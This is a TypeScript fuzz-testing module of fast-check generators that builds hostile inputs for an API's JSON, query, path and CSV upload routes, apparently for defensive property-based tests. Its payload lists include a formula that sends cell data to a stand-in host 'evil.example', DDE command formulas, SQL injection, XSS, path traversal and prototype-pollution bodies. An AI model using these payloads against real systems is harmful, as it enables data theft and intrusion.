import fc from 'fast-check';

/**
 * Generators of hostile input for the property-based tests. FUZZ_SEED reproduces a run (fast-check prints
 * the seed and path of a failure); FUZZ_RUNS scales the number of cases per route.
 */
export const FUZZ_SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : 20260302;
export const FUZZ_RUNS = Number(process.env.FUZZ_RUNS ?? 80);

/** Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), and look-alikes. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "-cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
];

const SPECIAL = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDFFF',
  '\u202Eevil.exe',
  '\uFEFFbom',
  '👩‍👩‍👧‍👦 flat',
  'Z̴̡͇̈́a̷l̵g̸o̶',
  'ﷺ',
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '%00',
  '%s%s%n',
  '\\',
  '"',
  '"",""',
  'a,"b",c',
  'Flat 3, "Block B"',
  'line\r\nbreak',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  '1_000',
  '٣',
  '１２',
  ' 12 ',
  '12.',
  '-1.5',
  '00000000-0000-0000-0000-000000000000',
  'true',
  'null',
];

/** Keys that attack the code reading an object rather than the value. */
export const HOSTILE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'polluted',
  '',
  ' ',
  'a.b',
  '$ne',
  '0',
  'role',
  'userId',
  'id',
  'toString',
  'hasOwnProperty',
  '\u0000',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FORMULAS, ...SPECIAL) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: fc.constantFrom(...'",\r\n=+-@\t ;\'\\'), maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  // Long text: past every field's limit, within the 1 MB body limit.
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 201, max: 200_000 }), fc.constantFrom('x', 'é', '😀', ',', '"'))
      .map(([n, c]) => c.repeat(n)),
  },
);

export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_KEYS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

/** Sets an own property even for `__proto__`, so JSON.stringify sends it as a key. */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function nest(depth: number, asArray: boolean): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}

/** Any JSON value, hostile at every level: wrong types, huge or odd strings, deep nesting, prototype keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 5, arbitrary: hostileString },
    {
      weight: 2,
      arbitrary: fc.oneof(
        fc.integer(),
        fc.double(),
        fc.constantFrom(0, -1, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, 0.1 + 0.2),
      ),
    },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 4 }) },
    {
      weight: 1,
      arbitrary: fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 4 }).map((entries) => {
        const o: Record<string, unknown> = {};
        for (const [k, v] of entries) setOwn(o, k, v);
        return o;
      }),
    },
    // Deeper than any real body (the server refuses past 64 levels); deeper still is sent as raw text below.
    { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 20, max: 200 }), fc.boolean()).map(([d, a]) => nest(d, a)) },
    {
      weight: 1,
      // Made afresh each time: a shared instance would be changed by later mutations.
      arbitrary: fc
        .constantFrom(0, 1, 2)
        .map((i) =>
          i === 0
            ? JSON.parse('{"__proto__":{"polluted":"yes","role":"admin"}}')
            : i === 1
              ? { constructor: { prototype: { polluted: 'yes' } } }
              : Array.from({ length: 5000 }, (_, n) => n),
        ),
    },
  ),
})).value;

/** Bodies that are not the JSON they claim to be, sent as application/json. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '}',
    '{"a":',
    '[1,]',
    "{'a':1}",
    '{"a":1,}',
    'undefined',
    'NaN',
    '\uFEFF',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"a":1,"a":2}',
    '1e999999',
    '"just a string"',
    'null',
    '[]',
    '\u0000',
  ),
  fc.integer({ min: 1, max: 100_000 }).map((d) => '['.repeat(d) + ']'.repeat(d)),
  fc.integer({ min: 1, max: 50_000 }).map((d) => '{"a":'.repeat(d) + '{"__proto__":1}' + '}'.repeat(d)),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.json().map((j) => j.slice(0, Math.max(0, j.length - 1))),
);

/** Content types a JSON route must refuse or survive. */
export const oddContentTypes = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'application/json, text/plain',
  'image/png',
  'application/octet-stream',
  'application/json; charset=utf-16',
];

type Path = (string | number)[];

/** A deep copy that keeps own `__proto__` keys (JSON.parse defines them as data properties). */
const copy = (value: unknown): unknown =>
  value === undefined ? undefined : JSON.parse(JSON.stringify(value) ?? 'null');

function paths(value: unknown, prefix: Path = []): Path[] {
  const out: Path[] = [prefix];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...paths(v, [...prefix, i])));
  else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) out.push(...paths(v, [...prefix, k]));
  }
  return out;
}

export interface Mutation {
  op: 'replace' | 'delete' | 'addKey' | 'wrap';
  pick: number;
  key: string;
  value: unknown;
}

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  op: fc.constantFrom('replace', 'replace', 'replace', 'delete', 'addKey', 'wrap'),
  pick: fc.nat(),
  key: hostileKey,
  value: hostileValue,
});

/** A valid body with one to three parts broken: a value replaced, removed, wrapped, or a key added. */
export function mutate(valid: unknown, mutations: Mutation[]): unknown {
  let body: unknown = copy(valid);
  for (const original of mutations) {
    const m = { ...original, value: copy(original.value) };
    const all = paths(body);
    const at = all[m.pick % all.length]!;
    if (at.length === 0) {
      body = m.op === 'wrap' ? [body] : m.op === 'replace' ? m.value : body;
      if (m.op === 'addKey' && body && typeof body === 'object' && !Array.isArray(body))
        setOwn(body as Record<string, unknown>, m.key, m.value);
      continue;
    }
    const parent = at.slice(0, -1).reduce<any>((o, k) => o[k], body); // eslint-disable-line @typescript-eslint/no-explicit-any
    const last = at[at.length - 1]!;
    if (m.op === 'replace') parent[last] = m.value;
    else if (m.op === 'wrap') parent[last] = [parent[last]];
    else if (m.op === 'delete') {
      if (Array.isArray(parent)) parent.splice(Number(last), 1);
      else delete parent[last];
    } else if (parent[last] && typeof parent[last] === 'object' && !Array.isArray(parent[last]))
      setOwn(parent[last], m.key, m.value);
    else if (!Array.isArray(parent)) setOwn(parent, m.key, m.value);
  }
  return body;
}

/** A query-string value as an attacker would write it: encoded hostile text or broken percent-encoding. */
export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
  hostileString.map((s) => {
    try {
      return encodeURIComponent(s);
    } catch {
      return '%ED%A0%80'; // a lone surrogate cannot be encoded; send its UTF-8-ish bytes instead
    }
  }),
  fc.constantFrom(
    '%',
    '%zz',
    '%E0%A4%A',
    '%00',
    '%C0%AF',
    '%FF%FE',
    '-1',
    '1e400',
    '0x10',
    '99999999999999999999',
    '',
    '[]',
    'a&b',
    '%26%3D',
  ),
  fc.integer().map(String),
);

export const QUERY_KEYS = [
  'q',
  'limit',
  'offset',
  'siteId',
  'siteName',
  'kind',
  'id',
  '__proto__',
  'constructor[prototype][polluted]',
  'q[]',
  'limit[$gt]',
  '',
];

export const hostileQuery: fc.Arbitrary<string> = fc
  .array(
    fc.tuple(
      fc.oneof(fc.constantFrom(...QUERY_KEYS), fc.string({ maxLength: 8 }).map(encodeURIComponent)),
      hostileQueryValue,
    ),
    {
      minLength: 1,
      maxLength: 5,
    },
  )
  .map((pairs) => pairs.map(([k, v]) => `${k}=${v}`).join('&'));

/** Path parameters: real-looking ids, malformed ones, traversal and encoding tricks. */
export const hostileId: fc.Arbitrary<string> = fc.oneof(
  fc.uuid().map((u) => u.toUpperCase()),
  fc.uuid(),
  fc.constantFrom(
    'not-a-uuid',
    '00000000-0000-0000-0000-000000000000',
    '..%2F..%2Fetc%2Fpasswd',
    '%00',
    '%E0%A4%A',
    "1'%20OR%20'1'%3D'1",
    'x'.repeat(5000),
    '%F0%9F%98%80',
    '-1',
    'null',
  ),
);

/** CSV text for the site bulk upload: the right header or not, then rows of hostile cells. */
export const hostileCsv: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(
      'site_name,site_location,property_address,property_type',
      '"site_name","site_location","property_address","property_type"',
      'site_location,site_name',
      '\uFEFFsite_name,site_location,property_address,property_type',
      '',
    ),
    fc.array(
      fc.array(
        fc.oneof(
          hostileString.filter((s) => s.length < 500),
          fc.constantFrom('Oak Court', 'Leeds', 'Flat 1', '1b2p'),
        ),
        { maxLength: 6 },
      ),
      {
        maxLength: 12,
      },
    ),
    fc.constantFrom('\r\n', '\n', '\r'),
    fc.boolean(),
  )
  .map(([header, rows, eol, quoteAll]) => {
    const cell = (c: string) => (quoteAll || /[",\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c);
    // Sometimes a broken quote on purpose: the parser must report it, not crash.
    return [header, ...rows.map((r) => r.map(cell).join(','))].join(eol) + (rows.length % 3 === 0 ? '"' : eol);
  });
